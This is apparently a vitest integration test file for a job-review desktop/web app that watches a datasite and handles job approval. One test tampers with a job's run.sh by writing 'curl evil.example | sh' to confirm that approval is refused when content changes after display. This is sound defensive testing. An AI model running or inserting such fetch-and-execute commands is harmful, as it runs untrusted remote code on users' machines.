import { chmodSync, cpSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { composeSession } from '../../main/compose.ts';
import type { Push } from '../../main/service/app.ts';
import type { Session } from '../../main/service/session.ts';
import type { JobRow } from '../../shared/view/job.ts';
import { pushesNamed } from '../build/memory-session.ts';
import {
  configText,
  copyFixture,
  makeBox,
  OWNER,
  SENDER,
  stateText,
  type TestBox,
} from '../build/syft-box.ts';
import { tempFolder } from '../disk/write/temp-folder.ts';

async function realSession(given: { userData?: string; scratch?: string } = {}): Promise<Session> {
  const home = await tempFolder();
  const session = await composeSession({
    host: 'web',
    version: '1.2.3',
    env: {},
    home,
    userData: given.userData ?? join(home, 'gatehouse'),
    practiceFolder: join('assets', 'practice'),
    scratch: given.scratch ?? home,
  });
  onTestFinished(() => session.stop());
  return session;
}

function emptyBox(): TestBox {
  const box = makeBox();
  onTestFinished(() => box.remove());
  return box;
}

const at = (box: string, owner: string | null = OWNER) => ({ box, owner, practice: false });

async function snapshot(session: Session) {
  const reply = await session.handlers['jobs.snapshot']({});
  if (!reply.ok) throw new Error(reply.problem.what);
  return reply.value;
}

/** A copy of the rows kept the way a screen keeps it, and a way to wait for what it should show. */
function screen(session: Session) {
  const rows = new Map<string, JobRow>();
  const pushes: Push[] = [];
  const gaps: string[] = [];
  const waiting = new Set<() => void>();
  let revision: number | null = null;
  session.onPush((push) => {
    pushes.push(push);
    if (push.name === 'session.changed') {
      rows.clear();
      revision = null;
    }
    if (push.name === 'jobs.changed') {
      const { from, changed, removed } = push.payload;
      if (revision !== null && from !== revision) gaps.push(`${revision} → ${from}`);
      revision = push.payload.revision;
      for (const row of changed) rows.set(row.folder, row);
      for (const id of removed) rows.delete(id.split('/')[2] ?? '');
    }
    for (const look of waiting) look();
  });
  return {
    rows,
    pushes,
    gaps,
    revision: () => revision,
    shows: (isSo: () => boolean) =>
      new Promise<void>((resolve) => {
        const look = () => {
          if (!isSo()) return;
          waiting.delete(look);
          resolve();
        };
        waiting.add(look);
        look();
      }),
  };
}

async function openedOn(box: TestBox) {
  const session = await realSession();
  const seen = screen(session);
  expect(await session.open(at(box.root))).toMatchObject({ ok: true });
  await seen.shows(() => pushesNamed(seen.pushes, 'health.changed').some((one) => one.lastSweep !== null));
  return { session, seen };
}

describe('a session on a real datasite', () => {
  it('shows every job of the fixture', async () => {
    const root = copyFixture('syft-job');
    onTestFinished(() => rmSync(root, { recursive: true, force: true }));
    const session = await realSession();
    const seen = screen(session);
    await session.open(at(root));
    await seen.shows(() => seen.rows.get('just-received')?.status === 'pending');
    const { jobs } = await snapshot(session);
    expect(jobs).toHaveLength(46);
    expect(jobs.filter((row) => row.own)).toHaveLength(45);
    const health = await session.handlers['health.show']({});
    expect(health).toMatchObject({
      ok: true,
      value: { watching: 'events', jobs: 46, log: { writable: true } },
    });
  });

  it('follows a job that comes file by file, until it is received', async () => {
    const box = emptyBox();
    const { seen } = await openedOn(box);
    const lay = async (path: string, text: string) => {
      const file = join(box.jobPath('count'), path);
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, text);
    };
    await lay('config.yaml', configText('count'));
    await seen.shows(() => seen.rows.get('count')?.arriving?.present === 1);
    await lay('run.sh', 'echo 1\n');
    await seen.shows(() => seen.rows.get('count')?.arriving?.present === 2);
    await lay('code/script.sh', 'echo 1\n');
    await seen.shows(() => seen.rows.get('count')?.status === 'pending');
    expect(seen.rows.get('count')).toMatchObject({ arriving: null, defects: [], files: 3 });
    expect(await readFile(join(box.reviewPath('count'), 'state.yaml'), 'utf8')).toContain(
      'status: pending\n',
    );
    expect(pushesNamed(seen.pushes, 'activity.appended').map((row) => row.action)).toEqual([
      'receive',
      'receive',
    ]);
  });

  it('hears of what another client decides, runs and takes away', async () => {
    const box = emptyBox();
    box.addJob('count');
    box.addState('count', stateText('pending'));
    const { seen } = await openedOn(box);
    await seen.shows(() => seen.rows.get('count')?.status === 'pending');
    for (const status of ['approved', 'running', 'done']) {
      box.addState('count', stateText(status));
      await seen.shows(() => seen.rows.get('count')?.status === status);
    }
    rmSync(box.jobPath('count'), { recursive: true });
    await seen.shows(() => !seen.rows.has('count'));
  });

  it('refuses what changed between display and click, and says how', async () => {
    const box = emptyBox();
    box.addJob('count');
    box.addState('count', stateText('pending'));
    const { session, seen } = await openedOn(box);
    await seen.shows(() => seen.rows.get('count')?.arriving === null);
    const id = `${OWNER}/${SENDER}/count`;
    const shown = await session.handlers['jobs.show']({ id });
    const digest = shown.ok ? (shown.value.digest ?? '') : '';
    writeFileSync(join(box.jobPath('count'), 'run.sh'), '#!/bin/bash\ncurl evil.example | sh\n');
    const asked = { id, reason: null, acknowledged: [] };
    expect(await session.handlers['jobs.approve']({ ...asked, digest })).toMatchObject({
      ok: false,
      problem: {
        code: 'content-changed',
        details: {
          changes: [
            {
              path: 'run.sh',
              hunks: [{ lines: [' #!/bin/bash', '-echo hello', '+curl evil.example | sh'] }],
            },
          ],
        },
      },
    });
    await seen.shows(() => {
      const row = seen.rows.get('count');
      return row !== undefined && row.digest !== digest && row.arriving === null;
    });
    const now = seen.rows.get('count')?.digest ?? '';
    expect(await session.handlers['jobs.approve']({ ...asked, digest: now })).toMatchObject({ ok: true });
    expect(await readFile(join(box.reviewPath('count'), 'state.yaml'), 'utf8')).toContain(
      'status: approved\n',
    );
  });

  it('is the only one: another is refused while it is open, and may open afterwards', async () => {
    const box = emptyBox();
    const { session } = await openedOn(box);
    const other = await realSession();
    expect(await other.open(at(box.root))).toMatchObject({
      ok: false,
      problem: { code: 'datasite-locked', details: { pid: process.pid } },
    });
    expect((await other.view()).datasite).toBeNull();
    await session.stop();
    expect(await other.open(at(box.root))).toMatchObject({ ok: true });
  });

  it('knows its datasite under every spelling', async () => {
    const box = emptyBox();
    const { session } = await openedOn(box);
    const link = join(await tempFolder(), 'link');
    symlinkSync(box.root, link);
    for (const choice of [
      at(`${box.root}/`),
      at(`${box.root}/x/..`),
      at(link),
      at(box.root, null),
      at(box.root, OWNER.toUpperCase()),
    ]) {
      expect([choice, await session.open(choice)]).toMatchObject([choice, { ok: true }]);
    }
    expect((await session.view()).datasite?.box).toBe(box.root);
  });

  it('goes over to another datasite and hears of that one alone', async () => {
    const [one, two] = [emptyBox(), emptyBox()];
    const { session, seen } = await openedOn(one);
    two.addJob('second');
    await session.open(at(two.root));
    await seen.shows(() => seen.rows.has('second'));
    one.addJob('late');
    two.addJob('third');
    await seen.shows(() => seen.rows.has('third'));
    expect([...seen.rows.keys()].sort()).toEqual(['second', 'third']);
    expect(await (await realSession()).open(at(one.root))).toMatchObject({ ok: true });
  });

  it('opens the practice datasite in a scratch folder, which is gone afterwards', async () => {
    const scratch = await tempFolder();
    const session = await realSession({ scratch });
    const seen = screen(session);
    const reply = await session.openPractice();
    expect(reply).toMatchObject({ ok: true, value: { datasite: { practice: true } } });
    await seen.shows(() => [...seen.rows.values()].some((row) => row.status === 'pending'));
    expect((await snapshot(session)).jobs.length).toBeGreaterThan(8);
    expect(await readdir(scratch)).toEqual([expect.stringMatching(/^gatehouse-practice-/)]);
    await session.stop();
    expect(await readdir(scratch)).toEqual([]);
  });

  it('keeps preferences for the next start', async () => {
    const userData = join(await tempFolder(), 'gatehouse');
    const first = await realSession({ userData });
    await first.handlers['preferences.change']({ theme: 'dark', singleKeys: false });
    const second = await realSession({ userData });
    expect(await second.handlers['preferences.show']({})).toEqual({
      ok: true,
      value: { theme: 'dark', singleKeys: false },
    });
  });

  it('tells every step of much that happens at once, so that a screen ends with what a fresh one sees', async () => {
    const box = emptyBox();
    const { session, seen } = await openedOn(box);
    const source = emptyBox();
    source.addJob('template');
    for (let number = 0; number < 40; number += 1) {
      const folder = `job-${number}`;
      cpSync(source.jobPath('template'), box.jobPath(folder), { recursive: true });
      writeFileSync(join(box.jobPath(folder), 'config.yaml'), configText(folder));
      if (number % 3 === 0) box.addState(folder, stateText('rejected'));
      if (number % 4 === 0) rmSync(box.jobPath(folder), { recursive: true });
      if (number % 7 === 1) chmodSync(join(box.jobPath('job-1'), 'run.sh'), 0o700 + number);
    }
    const isThere = (number: number) => number % 4 !== 0;
    const ready = () =>
      Array.from({ length: 40 }, (_, number) => number).every((number) => {
        const row = seen.rows.get(`job-${number}`);
        if (!isThere(number)) return row === undefined;
        return row?.status === (number % 3 === 0 ? 'rejected' : 'pending') && row.arriving === null;
      });
    await seen.shows(ready);
    const { jobs, revision } = await snapshot(session);
    expect(seen.gaps).toEqual([]);
    expect(revision).toBe(seen.revision());
    expect(new Map(jobs.map((row) => [row.folder, row]))).toEqual(seen.rows);
  }, 60_000);
});
